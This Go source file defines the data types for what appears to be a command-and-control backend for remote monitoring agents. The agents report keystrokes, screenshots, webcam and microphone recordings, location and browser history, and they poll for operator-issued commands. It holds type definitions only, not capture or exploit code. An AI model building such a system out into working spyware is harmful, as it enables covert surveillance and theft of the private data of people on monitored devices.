package models

import "encoding/json"

// Envelope is the multi-field result payload submitted by agents. Each
// non-nil field is one recognized kind and is processed independently;
// JSON fields this version does not know are dropped during decoding.
type Envelope struct {
	Screenshot     *Screenshot     `json:"screenshot,omitempty"`
	SystemStats    json.RawMessage `json:"system_stats,omitempty"`
	Keystrokes     *Keystrokes     `json:"keystrokes,omitempty"`
	Location       json.RawMessage `json:"location,omitempty"`
	AppUsage       json.RawMessage `json:"app_usage,omitempty"`
	BrowserHistory json.RawMessage `json:"browser_history,omitempty"`
	Webcam         json.RawMessage `json:"webcam,omitempty"`
	MicRecording   json.RawMessage `json:"mic_recording,omitempty"`
	Alert          *AlertPayload   `json:"alert,omitempty"`
	ActiveWindow   string          `json:"active_window,omitempty"`
}

type Screenshot struct {
	Data      string `json:"data"`
	Window    string `json:"window,omitempty"`
	Timestamp int64  `json:"timestamp,omitempty"`
}

type Keystrokes struct {
	Data   string `json:"data"`
	Window string `json:"window,omitempty"`
}

type AlertPayload struct {
	Message   string `json:"message"`
	Timestamp int64  `json:"timestamp,omitempty"`
}

// Recognized envelope kinds.
const (
	KindScreenshot     = "screenshot"
	KindSystemStats    = "system_stats"
	KindKeystrokes     = "keystrokes"
	KindLocation       = "location"
	KindAppUsage       = "app_usage"
	KindBrowserHistory = "browser_history"
	KindWebcam         = "webcam"
	KindMicRecording   = "mic_recording"
	KindAlert          = "alert"
)

// --- agent-facing protocol ---

type RegisterRequest struct {
	Fingerprint string          `json:"fingerprint"`
	Hostname    string          `json:"hostname"`
	OS          string          `json:"os"`
	Addr        string          `json:"addr"`
	Meta        json.RawMessage `json:"meta,omitempty"`
}

type RegisterResponse struct {
	Status RegistrationOutcome `json:"status"`
}

type PollRequest struct {
	Fingerprint string    `json:"fingerprint"`
	Result      *Envelope `json:"result,omitempty"`
}

type PollResponse struct {
	OK      bool            `json:"ok"`
	Command *CommandPayload `json:"command,omitempty"`
}

type CommandPayload struct {
	ID      string          `json:"id"`
	Verb    string          `json:"verb"`
	Payload json.RawMessage `json:"payload,omitempty"`
}

type SubmitResultRequest struct {
	Fingerprint string   `json:"fingerprint"`
	Result      Envelope `json:"result"`
}

// --- operator-facing protocol ---

type LoginRequest struct {
	Email    string `json:"email"`
	Password string `json:"password"`
}

type LoginResponse struct {
	Token string `json:"token"`
	Role  string `json:"role"`
}

type CreateOperatorRequest struct {
	Email       string `json:"email"`
	Password    string `json:"password"`
	Role        string `json:"role,omitempty"`
	DeviceLimit int    `json:"device_limit"`
}

type AssignRequest struct {
	OwnerID string `json:"owner_id"`
}

type EnqueueCommandRequest struct {
	Verb    string          `json:"verb"`
	Payload json.RawMessage `json:"payload,omitempty"`
}

type EnqueueCommandResponse struct {
	CommandID string `json:"command_id"`
}

// StreamFrame is the observer websocket control frame.
type StreamFrame struct {
	Action  string `json:"action"`
	AgentID string `json:"agent_id,omitempty"`
}
